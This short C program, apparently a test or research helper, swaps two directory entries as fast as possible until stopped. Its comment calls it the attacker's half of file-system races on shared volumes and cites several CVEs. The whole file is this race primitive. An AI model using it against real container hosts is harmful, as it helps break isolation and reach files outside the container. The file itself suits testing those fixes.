/*
 * Exchanges two directory entries as fast as it can until SIGTERM, then prints how often: the attacker's half of every race
 * on a shared volume (CVE-2021-30465, 2024-45310, 2025-31133, 2025-52565, 2025-52881). usage: swap_entries PATH PATH
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

static volatile sig_atomic_t ended;

static void end(int number)
{
    (void)number;
    ended = 1;
}

int main(int count, char **arguments)
{
    struct sigaction action = {.sa_handler = end};
    long swaps = 0;
    if (count != 3)
        return 2;
    sigaction(SIGTERM, &action, NULL);
    while (!ended) {
        if (renameat2(AT_FDCWD, arguments[1], AT_FDCWD, arguments[2], RENAME_EXCHANGE) < 0) {
            perror("renameat2");
            return 1;
        }
        ++swaps;
    }
    printf("%ld\n", swaps);
    return 0;
}
